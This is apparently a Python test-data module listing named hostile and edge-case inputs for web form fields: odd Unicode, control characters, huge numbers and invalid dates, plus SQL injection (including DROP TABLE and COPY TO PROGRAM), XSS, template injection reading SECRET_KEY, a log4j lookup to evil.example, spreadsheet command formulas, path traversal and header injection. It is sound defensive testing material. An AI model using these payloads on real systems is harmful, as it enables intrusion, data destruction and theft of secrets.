"""What people, programs and their worst enemies type into a field.

Named, so that a failure says which one it was. Checks 2 to 8, 10, 13 and 14.
"""

from __future__ import annotations

BLANK = {
    "nothing": "",
    "spaces": "   ",
    "ideographic space": "\u3000\u3000",
    "zero width space": "\u200b\u200b",
    "byte order mark": "\ufeff",
    "tabs": "\t\t",
    "line ends": "\r\n\r\n",
    "no-break space": "\u00a0",
    "word joiner": "\u2060",
    "line separator": "\u2028",
    "mongolian separator": "\u180e",
    "hangul filler": "\u3164",
    "braille blank": "\u2800",
}

CONTROL = {
    "NUL": "甲\x00乙",
    "only NUL": "\x00",
    "start of heading": "甲\x01乙",
    "bell": "\x07",
    "backspace": "abc\x08\x08",
    "vertical tab": "甲\x0b乙",
    "form feed": "甲\x0c乙",
    "escape": "\x1b[31m甲\x1b[0m",
    "delete": "甲\x7f",
    "C1 next line": "甲\x85乙",
    "C1 control": "甲\x9f乙",
    "file separators": "a\x1c\x1d\x1e\x1fb",
    "carriage return": "甲\r乙",
}

UNICODE = {
    "emoji": "😀👨‍👩‍👧‍👦",
    "flags": "🇨🇳🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "right to left override": "甲\u202e乙exe.gpj",
    "isolates": "\u2066甲\u2067乙\u2069",
    "right to left": "שלום مرحبا",
    "combining stack": "Z" + "\u0351\u0321\u0334" * 60,
    "decomposed": "e\u0301" * 8,
    "composed": "é" * 8,
    "surrogate as escape": "\\ud800",
    "lone surrogate": "甲\ud800乙",
    "private use": "甲\ue000乙",
    "noncharacter": "甲\ufffe乙",
    "unassigned": "甲\u0378乙",
    "rare Han": "𠮷𡚴𠀀䶮㛃",
    "last code point": "\U0010ffff",
    "tag characters": "a\U000e0041\U000e0042",
    "full-width letters": "ＡＢＣ＜ｓｃｒｉｐｔ＞",
    "variation selectors": "葛\U000e0100︎",
    "turkish i": "İIıi",
    "sharp s": "ẞßﬀﬃ",
    "kelvin": "K°Å",
    "replacement": "\ufffd\ufffd",
    "soft hyphen": "窗\u00ad口",
    "object replacement": "\ufffc",
}

LONG = {
    "300": "长" * 300,
    "301": "长" * 301,
    "2001": "长" * 2001,
    "10,000": "长" * 10_000,
    "10,000 words": "ab " * 3_333,
    "10,000 digits": "9" * 10_000,
    "one word of 5,000": "x" * 5_000,
    "1,000 lines": "行\n" * 1_000,
}

HUGE = {"1 MB": "长" * 349_525}
"""Sent once to each form, not to each field."""

NUMBERS = {
    "zero": "0",
    "minus one": "-1",
    "minus zero": "-0",
    "2^15": "32768",
    "2^31": "2147483648",
    "2^32": "4294967296",
    "2^63": "9223372036854775808",
    "2^63 - 1": "9223372036854775807",
    "2^64": "18446744073709551616",
    "5,000 digits": "1" * 5_000,
    "underscore": "1_0",
    "exponent": "1e9",
    "huge exponent": "1e999999",
    "NaN": "NaN",
    "sNaN": "sNaN",
    "infinity": "Infinity",
    "minus infinity": "-inf",
    "plus": "+5",
    "point": "1.5",
    "comma": "1,5",
    "hexadecimal": "0x1F",
    "octal": "0o17",
    "leading zeros": "0000005",
    "full-width digits": "１２３",
    "arabic digits": "١٢٣",
    "superscript": "²",
    "roman": "Ⅷ",
    "circled": "①",
    "han digits": "一百二十",
    "mixed digits": "1２٣",
    "spaced": " 5 5 ",
    "true": "true",
    "none": "None",
    "null": "null",
    "undefined": "undefined",
    "list": "[1,2]",
    "json": '{"id": 1}',
}

DATES = {
    "30 February": "2026-02-30",
    "29 February": "2025-02-29",
    "year zero": "0000-01-01",
    "year 1": "0001-01-01",
    "year 10000": "10000-01-01",
    "last day": "9999-12-31",
    "month 13": "2026-13-01",
    "day zero": "2026-01-00",
    "negative year": "-2026-01-01",
    "american": "02/30/2026",
    "compact": "20260230",
    "chinese date": "二〇二六年二月三十日",
    "week date": "2026-W54-1",
    "date and time": "2026-01-01T00:00:00Z",
    "hour 25": "2026-01-01 25:61",
    "full-width date": "２０２６－０１－０１",
    "long ago": "1899-12-31",
    "far ahead": "2999-01-01",
}

SQL = {
    "quote": "'",
    "double quote": '"',
    "or true": "' OR '1'='1",
    "comment": "1; --",
    "drop": "'; DROP TABLE cases_case; --",
    "union": "' UNION SELECT password FROM windows_clerk --",
    "sleep": "'; SELECT pg_sleep(10); --",
    "dollar quote": "$$; SELECT 1; $$",
    "backslash quote": "\\'; SELECT 1; --",
    "percent": "%",
    "like": "_%_%\\%",
    "percent s": "%s%s%(name)s",
    "copy": "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "cast": "1::int[]",
    "array": "{1,2,NULL}",
    "range": "[1,)",
    "tsquery": "a & ! | ( <-> :*",
    "regular expression": "((((a+)+)+)+)+$",
    "many brackets": "(" * 500,
}

XSS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" autofocus onfocus="alert(1)',
    "single attribute": "' onmouseover='alert(1)",
    "javascript address": "javascript:alert(1)",
    "data address": "data:text/html,<script>alert(1)</script>",
    "closing": "</textarea></title></style><script>alert(1)</script>",
    "comment": "--><script>alert(1)</script><!--",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entity": "&#60;script&#62;",
    "cdata": "]]><script>alert(1)</script>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "htmx": '<div hx-get="/logout/" hx-trigger="load">',
    "base": '<base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
}

TEMPLATES = {
    "django": "{{ 7|add:7 }}{% debug %}",
    "jinja": "{{7*7}}",
    "settings": "{{ settings.SECRET_KEY }}",
    "dollar": "${7*7}",
    "erb": "<%= 7*7 %>",
    "format": "{0.__class__}{password}",
    "printf": "%n%x%s%s%s%s",
    "f-string": "{request.user.password!r}",
    "log4j": "${jndi:ldap://evil.example/a}",
    "spreadsheet": "=1+1",
    "spreadsheet command": "=cmd|' /C calc'!A0",
    "plus formula": "+86-1+1",
    "at formula": "@SUM(1,1)",
}

PATHS = {
    "dots": "../../../../etc/passwd",
    "encoded dots": "..%2f..%2fetc%2fpasswd",
    "windows": "..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "file": "file:///etc/passwd",
    "unc": "\\\\evil.example\\share",
    "reserved": "CON",
    "pipe": "| id",
    "backtick": "`id`",
    "substitution": "$(id)",
    "percent NUL": "%00",
}

HEADERS = {
    "header": "a\r\nSet-Cookie: x=1",
    "response": "a\r\n\r\n<script>alert(1)</script>",
    "encoded header": "a%0d%0aSet-Cookie:%20x=1",
    "log line": 'a\n{"event": "forged"}',
    "address": "//evil.example/",
    "backslash address": "/\\evil.example/",
    "at address": "http://testserver@evil.example/",
}

GROUPS: dict[str, dict[str, str]] = {
    "blank": BLANK,
    "control": CONTROL,
    "unicode": UNICODE,
    "long": LONG,
    "number": NUMBERS,
    "date": DATES,
    "sql": SQL,
    "xss": XSS,
    "template": TEMPLATES,
    "path": PATHS,
    "header": HEADERS,
}

VALUES = {
    f"{group}: {name}": value
    for group, values in GROUPS.items()
    for name, value in values.items()
}

FOR_ADDRESSES = [
    *("abc", "-5", "0", "1e9", "²", "１２", "1_0", "NaN", "9" * 40, "9" * 5_000),
    *("2026-02-30", "9999-12-31", "0000-01-01", "10000-01-01", "99999999999-1"),
    *("'", '"', "%", "_", "\\", "' OR 1=1 --", "<script>alert(1)</script>"),
    *("甲" * 10_000, "😀", "\u202e", "\u200b", "\u3000", "{{7*7}}", "../../etc/passwd"),
    *("a\r\nSet-Cookie: x=1", "[]", "None", "-0", "  ", "", "2147483648"),
    *("9223372036854775808", "-9223372036854775809", "0x10", "1,2", "1.5", "+1"),
    # Shaped like the keys of our own pages.
    *("n.99999999999999999999999-1", "o.1-99999999999999999999999", "n.1-2-3"),
    *("older.9999999999999999-²", "newer.１-２", "n.-1--1", "older.1e9-1", "older.-"),
    *("older.0-0", "newer.253402300800000000-1", "2026-02-30.1", "2026-01-01.²"),
    *("2026-01-01.99999999999999999999", "9999-12-31.9", "0001-01-01.-1", "."),
]
"""For query strings, where NUL and broken bytes are refused before any view."""
